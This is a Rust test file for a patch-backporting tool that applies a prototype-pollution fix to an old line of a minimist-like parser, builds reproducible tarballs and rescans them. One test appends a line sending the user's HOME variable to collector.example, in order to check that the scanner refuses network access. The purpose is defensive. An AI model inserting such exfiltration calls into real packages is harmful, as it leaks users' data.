//! End to end, in memory: tinyargs (a minimist-like parser, tests/fixtures/tinyargs/) has a
//! prototype-pollution bug in 1.2.5, fixed in 1.2.6; the 0.2 line has the same code, shifted and
//! with a different comment. The 1.2.5→1.2.6 fix is backported onto 0.2.1, built twice as a
//! reproducible tarball and rescanned.

use std::path::PathBuf;
use warden_patch::{
    PatchManifest, Tree, apply_patch, backport, integrity_sha512, parse_patch, patched_version,
    render_patch, review,
};
use warden_test_registry::fixtures::{PackageSpec, build_tarball};

fn fixture(version: &str, file: &str) -> Vec<u8> {
    let p = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/tinyargs")
        .join(version)
        .join(file);
    std::fs::read(&p).unwrap_or_else(|e| panic!("{}: {e}", p.display()))
}

fn tarball(version: &str) -> Vec<u8> {
    let mut spec = PackageSpec::new("tinyargs", version);
    spec.files = vec![
        ("index.js".into(), fixture(version, "index.js")),
        ("README.md".into(), fixture(version, "README.md")),
    ];
    build_tarball(&spec)
}

fn tree(version: &str) -> Tree {
    Tree::from_tarball(&format!("tinyargs@{version}"), &tarball(version)).expect("fixture reads")
}

#[test]
fn minimist_like_fix_backports_onto_the_old_line_and_builds_reproducibly() {
    let base_tgz = tarball("0.2.1");
    let target = tree("0.2.1");
    let bp = backport(&target, &tree("1.2.5"), &tree("1.2.6"), 2).expect("backport runs");

    // Both upstream hunks applied: the first with an offset, the second only with fuzz 1.
    assert!(bp.outcome.clean(), "rejects: {:?}", bp.outcome.rejected);
    let f = &bp.outcome.files[0];
    assert_eq!((f.path.as_str(), f.hunks, f.applied), ("index.js", 2, 2));
    assert_eq!(f.max_fuzz, 1);
    assert!(f.max_offset >= 1);
    // README and package.json changes are not code and are not carried over.
    assert_eq!(bp.skipped_other, vec!["README.md", "package.json"]);

    let patched = bp.patched.text("index.js").expect("utf-8");
    assert!(patched.contains("function isConstructorOrProto(obj, key)"));
    assert!(patched.contains("if (isConstructorOrProto(o, key)) return;"));
    assert!(patched.contains("if (isConstructorOrProto(o, last)) return;"));
    // The 0.2 line's own code is kept.
    assert!(patched.contains("// The 0.2 line: no boolean flags."));
    assert!(patched.contains("for (var i = 0, n = args.length; i < n; i++) {"));

    // The stored patch is exact against the base: it applies with no fuzz and gives the same tree.
    let text = render_patch(&bp.patch);
    let parts = parse_patch("0001-ghsa-test.patch", &text).expect("the patch parses");
    let mut again = target.clone();
    let outcome = apply_patch("0001-ghsa-test.patch", &mut again, &parts, 0).expect("applies");
    assert!(outcome.clean());
    assert_eq!(again, bp.patched);
    assert!(
        outcome
            .files
            .iter()
            .all(|f| f.max_fuzz == 0 && f.max_offset == 0)
    );

    // Build: version rewritten, reproducible bytes.
    let version = patched_version("0.2.1", 1);
    assert_eq!(version, "0.2.1-warden.1");
    let mut built = again.clone();
    built
        .set_version("tinyargs@0.2.1", &version)
        .expect("version rewrites");
    let one = built.to_tgz().expect("builds");
    let two = built.clone().to_tgz().expect("builds");
    assert_eq!(one, two, "two builds give identical bytes");
    assert_eq!(integrity_sha512(&one), integrity_sha512(&two));
    let reread = Tree::from_tarball("built", &one).expect("the build reads back");
    assert_eq!(reread, built);
    let manifest: serde_json::Value =
        serde_json::from_slice(&reread.files["package.json"].bytes).expect("json");
    assert_eq!(manifest["version"], "0.2.1-warden.1");
    assert_eq!(manifest["name"], "tinyargs");

    // The scanner sees nothing new.
    let r = review(&base_tgz, &one);
    assert!(r.accepted(), "refused: {:?}", r.refusals);
    assert!(r.diff.capabilities_gained.is_empty());
    assert_eq!(r.after.verdict, warden_scan::Verdict::Ok);
}

#[test]
fn reproducible_tarball_headers_are_fixed() {
    let mut t = tree("0.2.1");
    if let Some(e) = t.files.get_mut("index.js") {
        e.executable = true;
    }
    let tgz = t.to_tgz().expect("builds");
    // gzip header: magic, deflate, no flags, mtime 0, xfl 2 (level 9), OS 255.
    assert_eq!(&tgz[..10], &[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 255]);
    let mut raw = Vec::new();
    std::io::Read::read_to_end(&mut flate2::read::GzDecoder::new(tgz.as_slice()), &mut raw)
        .expect("gunzip");
    let mut a = tar::Archive::new(raw.as_slice());
    let mut seen = Vec::new();
    for e in a.entries().expect("tar") {
        let e = e.expect("entry");
        let h = e.header();
        let path = e.path().expect("path").to_string_lossy().into_owned();
        assert_eq!(h.mtime().expect("mtime"), 0);
        assert_eq!((h.uid().expect("uid"), h.gid().expect("gid")), (0, 0));
        let want = if path == "package/index.js" {
            0o755
        } else {
            0o644
        };
        assert_eq!(h.mode().expect("mode"), want, "{path}");
        seen.push(path);
    }
    let mut sorted = seen.clone();
    sorted.sort();
    assert_eq!(seen, sorted);
    assert_eq!(seen.len(), 3);
}

#[test]
fn a_fix_that_adds_network_access_is_refused() {
    let base_tgz = tarball("0.2.1");
    let mut t = tree("0.2.1");
    let mut js = t.text("index.js").expect("utf-8").to_string();
    js.push_str("require('https').get('https://collector.example/' + process.env.HOME);\n");
    if let Some(e) = t.files.get_mut("index.js") {
        e.bytes = js.into_bytes();
    }
    let r = review(&base_tgz, &t.to_tgz().expect("builds"));
    assert!(!r.accepted());
    assert!(
        r.refusals.iter().any(|m| m.contains("network")),
        "{:?}",
        r.refusals
    );
}

#[test]
fn a_backport_that_does_not_fit_leaves_rejects() {
    // Upstream rewrote setKey in a way the target does not have: the hunk finds no place.
    let mut target = tree("0.2.1");
    let js = target.text("index.js").expect("utf-8").replace(
        "            if (o[key] === undefined) o[key] = {};\n            o = o[key];\n",
        "            o = o[key] || (o[key] = {});\n",
    );
    if let Some(e) = target.files.get_mut("index.js") {
        e.bytes = js.into_bytes();
    }
    let bp = backport(&target, &tree("1.2.5"), &tree("1.2.6"), 2).expect("backport runs");
    assert!(!bp.outcome.clean());
    assert_eq!(bp.outcome.rejected.len(), 1);
    let rej = &bp.outcome.rejected[0];
    assert_eq!((rej.path.as_str(), rej.hunk), ("index.js", 2));
    assert!(
        rej.text
            .contains("+            if (isConstructorOrProto(o, key)) return;")
    );
    // The hunk that fits is still applied.
    assert!(
        bp.patched
            .text("index.js")
            .is_some_and(|t| t.contains("function isConstructorOrProto"))
    );
}

#[test]
fn patch_toml_round_trips() {
    let m = PatchManifest {
        package: "tinyargs".into(),
        version: "0.2.1".into(),
        base_integrity: integrity_sha512(&tarball("0.2.1")),
        revision: 1,
        patches: vec![warden_patch::PatchEntry {
            file: "0001-ghsa-test.patch".into(),
            advisories: vec!["GHSA-test".into()],
            author: "warden patch backport".into(),
            upstream: Some("tinyargs@1.2.5..1.2.6".into()),
        }],
        build: None,
    };
    let text = m.to_toml().expect("serialises");
    assert_eq!(
        PatchManifest::parse("patch.toml", &text).expect("parses"),
        m
    );
    assert_eq!(
        m.next_file_name("GHSA-xvch-5gv4-984h"),
        "0002-ghsa-xvch-5gv4-984h.patch"
    );
    let bad = PatchManifest::parse("patch.toml", "package = 1\n").expect_err("refused");
    let msg = bad.to_string();
    assert!(msg.starts_with("patch.toml: patch.toml:"), "{msg}");
    assert!(msg.contains("package"), "{msg}");
}

/// Runs the proof of concept under node against the original and the patched build, each
/// unpacked into its own scratch directory; nothing else is run and no install scripts exist.
/// Needs node on PATH: `cargo test -p warden-patch -- --ignored poc`.
#[test]
#[ignore = "runs node"]
fn poc_shows_the_old_build_vulnerable_and_the_patched_build_fixed() {
    let poc = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/tinyargs/poc.js");
    let bp = backport(&tree("0.2.1"), &tree("1.2.5"), &tree("1.2.6"), 2).expect("backport runs");
    for (t, want) in [(tree("0.2.1"), "vulnerable"), (bp.patched, "fixed")] {
        let dir = tempfile::tempdir().expect("tempdir");
        for (path, e) in &t.files {
            std::fs::write(dir.path().join(path), &e.bytes).expect("write");
        }
        let out = std::process::Command::new("node")
            .arg(&poc)
            .arg(dir.path())
            .env_clear()
            .output()
            .expect("node runs");
        assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), want);
        assert_eq!(out.status.success(), want == "fixed");
    }
}
